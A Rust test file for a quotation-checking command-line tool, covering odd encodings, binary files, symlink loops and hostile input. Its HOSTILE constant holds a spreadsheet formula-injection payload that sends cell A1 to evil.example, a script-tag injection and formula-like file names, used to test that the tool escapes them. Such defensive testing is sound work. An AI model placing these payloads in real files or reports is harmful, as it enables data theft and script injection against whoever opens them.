//! Broken and hostile inputs (issue #6), end to end: other encodings, binary and empty files, a
//! long single line, paths that cannot be read, symbolic-link loops, and article text built to
//! attack a spreadsheet or a page. Each gets a clear message or a clean exit, never a panic or a
//! hang, and the other inputs of the run are still checked.
//!
//! Like `tests/cli.rs`, the checks hold whatever the engine attributes: they rely on quotation
//! marks being found, never on who said what.

use assert_cmd::cargo::cargo_bin_cmd;
use predicates::prelude::*;
use tempfile::TempDir;

/// One balanced quote and one curly quote, with accents, a CRLF line end and an astral
/// character.
const ARTICLE: &str =
    "Le maire a déclaré : « Nous reconstruirons le pont ».\r\nIl a ajouté : “Dès demain 🎉”.\n";
/// The same in Windows-1252 (which has no emoji).
const ARTICLE_1252: &[u8] = b"Le maire a d\xe9clar\xe9 : \xab Nous reconstruirons le pont \xbb.\r\nIl a ajout\xe9 : \x93D\xe8s demain !\x94.\n";
/// A guillemet that never closes.
const OPEN: &str = "Le maire a déclaré : « Nous reconstruirons le pont avant la fin du mois.\n";

#[track_caller]
fn dir_with(files: &[(&str, &[u8])]) -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, bytes) in files {
        let path = dir.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, bytes).unwrap();
    }
    dir
}

fn quotecheck(dir: &TempDir) -> assert_cmd::Command {
    let mut cmd = cargo_bin_cmd!("quotecheck");
    cmd.current_dir(dir.path());
    cmd
}

/// Rows of a CSV report as maps from column name to cell.
#[track_caller]
fn rows(stdout: &[u8]) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(stdout);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            header
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(String::from))
                .collect()
        })
        .collect()
}

/// (line, column, byte_start, byte_end, quote) of each row.
fn positions(stdout: &[u8]) -> Vec<(String, String, usize, usize, String)> {
    rows(stdout)
        .into_iter()
        .map(|r| {
            (
                r["line"].clone(),
                r["column"].clone(),
                r["byte_start"].parse().unwrap(),
                r["byte_end"].parse().unwrap(),
                r["quote"].clone(),
            )
        })
        .collect()
}

fn utf16(text: &str, big_endian: bool) -> Vec<u8> {
    let mut out = if big_endian {
        vec![0xFE, 0xFF]
    } else {
        vec![0xFF, 0xFE]
    };
    for u in text.encode_utf16() {
        out.extend(if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

#[test]
fn utf16_files_with_a_byte_order_mark_are_read_and_positions_count_their_bytes() {
    let le = utf16(ARTICLE, false);
    let be = utf16(ARTICLE, true);
    let html = utf16("<p>Il a dit : &laquo;&nbsp;Oui&nbsp;&raquo;.</p>", false);
    let dir = dir_with(&[
        ("utf8.txt", ARTICLE.as_bytes()),
        ("le.txt", &le),
        ("be.txt", &be),
        ("page.html", &html),
    ]);
    let run = |file: &str| {
        quotecheck(&dir)
            .args(["check", "--no-fail", file])
            .assert()
            .code(0)
            .stderr("")
            .get_output()
            .stdout
            .clone()
    };
    let reference = positions(&run("utf8.txt"));
    assert_eq!(reference.len(), 2);
    for (file, bytes, big_endian) in [("le.txt", &le, false), ("be.txt", &be, true)] {
        let got = positions(&run(file));
        assert_eq!(got.len(), reference.len(), "{file}");
        for (g, r) in got.iter().zip(&reference) {
            // Same line, column and text; byte offsets into the UTF-16 file.
            assert_eq!((&g.0, &g.1, &g.4), (&r.0, &r.1, &r.4), "{file}");
            let units: Vec<u16> = bytes[g.2..g.3]
                .chunks_exact(2)
                .map(|c| {
                    if big_endian {
                        u16::from_be_bytes([c[0], c[1]])
                    } else {
                        u16::from_le_bytes([c[0], c[1]])
                    }
                })
                .collect();
            assert_eq!(String::from_utf16(&units).unwrap(), g.4, "{file}");
        }
    }
    // HTML: the quote runs from `&laquo;` to `&raquo;` in the file.
    let got = positions(&run("page.html"));
    assert_eq!(got.len(), 1);
    let units: Vec<u16> = html[got[0].2..got[0].3]
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    assert_eq!(
        String::from_utf16(&units).unwrap(),
        "&laquo;&nbsp;Oui&nbsp;&raquo;"
    );
}

#[test]
fn windows_1252_is_read_with_encoding_and_refused_with_the_byte_offset_without() {
    let dir = dir_with(&[("cms.txt", ARTICLE_1252), ("good.txt", OPEN.as_bytes())]);
    // Without --encoding: an error naming the file, the byte and the way out; the run goes on.
    let out = quotecheck(&dir)
        .args(["check", "--no-fail", "cms.txt", "good.txt"])
        .assert()
        .code(2)
        .stderr(
            "quotecheck: cms.txt: invalid UTF-8 at byte 12 (a Latin-1 or Windows-1252 file needs --encoding windows-1252)\n",
        )
        .get_output()
        .stdout
        .clone();
    assert_eq!(rows(&out).len(), 1);
    for encoding in ["windows-1252", "latin1", "cp1252"] {
        let out = quotecheck(&dir)
            .args(["check", "--no-fail", "--encoding", encoding, "cms.txt"])
            .assert()
            .code(0)
            .stderr("")
            .get_output()
            .stdout
            .clone();
        let got = positions(&out);
        assert_eq!(got.len(), 2, "{encoding}");
        assert_eq!(got[0].4, "« Nous reconstruirons le pont »");
        assert_eq!(got[1].4, "“Dès demain !”");
        // One byte per character in the file.
        assert_eq!(ARTICLE_1252[got[0].2], 0xAB);
        assert_eq!(ARTICLE_1252[got[0].3 - 1], 0xBB);
        assert_eq!(ARTICLE_1252[got[1].2], 0x93);
        assert_eq!(ARTICLE_1252[got[1].3 - 1], 0x94);
        assert_eq!((got[1].0.as_str(), got[1].1.as_str()), ("2", "15"));
    }
    // An unknown encoding is a usage error.
    quotecheck(&dir)
        .args(["check", "--encoding", "ebcdic", "cms.txt"])
        .assert()
        .code(2)
        .stdout("")
        .stderr(predicate::str::contains("windows-1252"));
}

#[test]
fn binary_empty_and_mark_only_files_are_clean() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\xff\xfe\xfd";
    let dir = dir_with(&[
        ("image.txt", png),
        ("empty.txt", b""),
        ("bom8.txt", b"\xEF\xBB\xBF"),
        ("bom16.txt", b"\xFF\xFE"),
        ("odd16.txt", b"\xFF\xFE\x41"),
        ("nul16.txt", &utf16("« a\0b »", false)),
        ("good.txt", OPEN.as_bytes()),
    ]);
    let out = quotecheck(&dir)
        .args([
            "check",
            "image.txt",
            "empty.txt",
            "bom8.txt",
            "bom16.txt",
            "odd16.txt",
            "nul16.txt",
            "good.txt",
        ])
        .assert()
        .code(1)
        .stderr(
            "quotecheck: note: image.txt: skipped (binary file)\n\
             quotecheck: note: nul16.txt: skipped (binary file)\n",
        )
        .get_output()
        .stdout
        .clone();
    let files: Vec<String> = rows(&out).into_iter().map(|r| r["file"].clone()).collect();
    assert_eq!(files, ["good.txt"]);
}

#[test]
fn a_long_single_line_is_checked_to_its_end() {
    // A CMS export without a single line break: prose, now and then a quote. The full-size
    // case (200 MB) is in scripts/bench.sh; 512 KB keeps the debug test quick. (Many quotes in
    // one paragraph are slow in the engine: see docs/performance.md.)
    let prose = "Le conseil municipal se réunira mardi prochain pour voter le budget de la ville. "
        .repeat(24);
    let article = format!(
        "{prose}Le pont est fermé depuis lundi, « jusqu’à nouvel ordre », selon la mairie. "
    );
    let line = article.repeat(512 * 1024 / article.len());
    assert!(!line.contains('\n'));
    let dir = dir_with(&[("line.txt", line.as_bytes())]);
    let out = quotecheck(&dir)
        .args(["check", "--no-fail", "--format", "json", "line.txt"])
        .timeout(std::time::Duration::from_secs(60))
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let out = String::from_utf8(out).unwrap();
    let last: serde_json::Value = serde_json::from_str(out.lines().last().unwrap()).unwrap();
    assert_eq!(out.lines().count(), line.matches('«').count());
    assert_eq!(last["line"], 1);
    // The last quote of the line is reported, at its place.
    let end = last["byte_end"].as_u64().unwrap() as usize;
    assert!(end > line.len() - article.len(), "{end}");
    assert_eq!(
        &line[last["byte_start"].as_u64().unwrap() as usize..end],
        last["quote"]
    );
}

#[test]
fn paths_that_cannot_be_read_are_reported_and_the_run_goes_on() {
    let dir = dir_with(&[
        ("good.txt", OPEN.as_bytes()),
        ("locked.txt", OPEN.as_bytes()),
    ]);
    #[cfg(unix)]
    {
        use std::os::unix::fs::{PermissionsExt, symlink};
        symlink("nowhere.txt", dir.path().join("dangling.txt")).unwrap();
        symlink("self.txt", dir.path().join("self.txt")).unwrap();
        let locked = dir.path().join("locked.txt");
        std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    }
    let mut cmd = quotecheck(&dir);
    cmd.args([
        "check",
        "--no-fail",
        "missing.txt",
        "good.txt/inside.txt",
        "dangling.txt",
        "self.txt",
        "locked.txt",
        "good.txt",
    ]);
    let out = cmd
        .timeout(std::time::Duration::from_secs(30))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    for name in [
        "missing.txt",
        "good.txt/inside.txt",
        "dangling.txt",
        "self.txt",
    ] {
        assert!(
            stderr.contains(&format!("quotecheck: {name}: ")),
            "{name}: {stderr}"
        );
    }
    // Root reads a file without permissions; anyone else gets an error for it.
    let locked_readable = std::fs::read(dir.path().join("locked.txt")).is_ok();
    assert_eq!(
        stderr.contains("quotecheck: locked.txt: "),
        !locked_readable,
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
    let files: Vec<String> = rows(&out.stdout)
        .into_iter()
        .map(|r| r["file"].clone())
        .collect();
    let mut expected = vec!["good.txt"];
    if locked_readable {
        expected.insert(0, "locked.txt");
    }
    assert_eq!(files, expected);
}

#[cfg(unix)]
#[test]
fn a_directory_symlink_loop_does_not_hang_the_walk() {
    use std::os::unix::fs::symlink;
    let dir = dir_with(&[("news/a.txt", OPEN.as_bytes())]);
    symlink("..", dir.path().join("news/up")).unwrap();
    symlink(".", dir.path().join("news/here")).unwrap();
    symlink("loop-b", dir.path().join("news/loop-a")).unwrap();
    symlink("loop-a", dir.path().join("news/loop-b")).unwrap();
    let out = quotecheck(&dir)
        .args(["check", "--no-fail", "news"])
        .timeout(std::time::Duration::from_secs(30))
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let files: Vec<String> = rows(&out).into_iter().map(|r| r["file"].clone()).collect();
    assert_eq!(files, ["news/a.txt"]);
    // Named through the loop, the file is still read once per argument.
    quotecheck(&dir)
        .args(["check", "--no-fail", "news/here/here/up/news/a.txt"])
        .timeout(std::time::Duration::from_secs(30))
        .assert()
        .code(0)
        .stdout(predicate::str::contains("news/here/here/up/news/a.txt"));
}

#[test]
fn a_report_into_a_missing_directory_fails_before_reading_anything() {
    let dir = dir_with(&[("good.txt", OPEN.as_bytes())]);
    for args in [
        &["-o", "missing/dir/q.csv"][..],
        &["--report", "sarif=missing/q.sarif"],
    ] {
        quotecheck(&dir)
            .args(["check", "good.txt"])
            .args(args)
            .assert()
            .code(2)
            .stdout("")
            .stderr(predicate::str::starts_with(
                "quotecheck: cannot create the report file missing/",
            ));
    }
}

/// Text built to attack whoever opens the report: a formula, a script, double quotes and line
/// breaks inside quotes, in the article and in the names of the inputs. The blank line makes it
/// hard-wrapped text, where a quote runs on over a line break.
const HOSTILE: &str = "Le maire a déclaré : « =HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\") ».\n\
Il a ajouté : « <script>alert(\"x\")</script> ».\n\
\"He said \"\"no\"\",\nthen left,\" she said.\n\n\
Puis : « @SUM(1+1)\r\n-2+3 ».\n";

#[test]
fn hostile_article_text_cannot_run_in_a_spreadsheet_and_survives_every_format() {
    let names = ["=cmd.txt", "+1.txt", "-2.txt", "@x.txt", "plain.txt"];
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (*n, HOSTILE.as_bytes())).collect();
    let dir = dir_with(&files);
    let run = |args: &[&str]| {
        quotecheck(&dir)
            .args(["check", "--no-fail"])
            .args(args)
            .arg("--")
            .args(names)
            .assert()
            .code(0)
            .get_output()
            .stdout
            .clone()
    };
    let csv = run(&[]);
    let json = String::from_utf8(run(&["--format", "json"])).unwrap();
    let rows = rows(&csv);
    assert_eq!(rows.len(), json.lines().count());
    assert!(rows.len() >= names.len() * 3, "{}", rows.len());
    for (row, line) in rows.iter().zip(json.lines()) {
        let obj: serde_json::Value = serde_json::from_str(line).unwrap();
        // The file cell is guarded when it starts like a formula; JSON is untouched.
        let file = obj["file"].as_str().unwrap();
        if file.starts_with(['=', '+', '-', '@']) {
            assert_eq!(row["file"], format!("'{file}"));
        } else {
            assert_eq!(row["file"], file);
        }
        // The quote comes back exactly, line breaks and double quotes included.
        assert_eq!(row["quote"], obj["quote"].as_str().unwrap());
        for (column, cell) in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
                "{column}: {cell:?}"
            );
        }
    }
    let quotes: Vec<&str> = rows.iter().map(|r| r["quote"].as_str()).collect();
    assert!(quotes.iter().any(|q| q.contains("=HYPERLINK(\"http")));
    assert!(
        quotes
            .iter()
            .any(|q| q.contains("<script>alert(\"x\")</script>"))
    );
    assert!(quotes.iter().any(|q| q.contains("@SUM(1+1)\r\n-2+3")));
    // Raw CSV keeps the cells as they are.
    let raw = self::rows(&run(&["--csv-raw"]));
    assert!(raw.iter().any(|r| r["file"] == "=cmd.txt"));
    // GitHub annotations: one command per line, line breaks escaped.
    let github = String::from_utf8(run(&[
        "--format",
        "github",
        "--severity",
        "unattributed=error",
    ]))
    .unwrap();
    for line in github.lines() {
        assert!(line.starts_with("::"), "{line:?}");
    }
    // SARIF is one JSON document.
    let sarif: serde_json::Value = serde_json::from_slice(&run(&["--format", "sarif"])).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
}

#[test]
fn hostile_json_lines_ids_are_guarded_too() {
    let archive = format!(
        "{}\n{}\n",
        serde_json::json!({"id": "=1+1", "text": OPEN}),
        serde_json::json!({"id": "a\nb\"c", "text": OPEN}),
    );
    let dir = dir_with(&[("a.jsonl", archive.as_bytes())]);
    let out = quotecheck(&dir)
        .args(["check", "--no-fail", "a.jsonl"])
        .assert()
        .code(0)
        .get_output()
        .stdout
        .clone();
    let files: Vec<String> = rows(&out).into_iter().map(|r| r["file"].clone()).collect();
    assert_eq!(files, ["'=1+1", "a\nb\"c"]);
}
